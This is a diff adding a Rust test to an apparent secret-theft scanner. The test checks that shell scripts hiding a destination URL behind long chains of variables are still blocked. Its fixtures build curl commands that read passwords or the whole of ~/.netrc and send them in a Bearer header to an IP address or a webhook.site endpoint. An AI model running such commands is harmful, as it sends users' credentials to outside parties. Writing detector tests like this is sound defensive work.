@@ -258,3 +258,27 @@ fn thefts_over_files_and_other_languages_are_flags() {
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
 }
+
+#[test]
+fn an_address_behind_more_variables_than_are_searched_is_somebody_elses() {
+    for count in [3, 2_500] {
+        let lines = (1..=count).map(|number| format!("v{number}=$v{}\n", number - 1));
+        let chain = lines.collect::<Vec<_>>().concat();
+        for (store, address) in [
+            (
+                "$(awk '/password/{print $2}' ~/.netrc)",
+                "http://45.77.10.2/in",
+            ),
+            ("$(cat ~/.netrc)", "https://webhook.site/in"),
+        ] {
+            let code = format!(
+                "v0={address}\n{chain}curl -H \"Authorization: Bearer {store}\" $v{count}\n"
+            );
+            let hits = found(&[("main.sh", &code)]);
+            assert!(
+                hits.first().is_some_and(|hit| hit.starts_with("Block")),
+                "{count} {address} {hits:?}"
+            );
+        }
+    }
+}
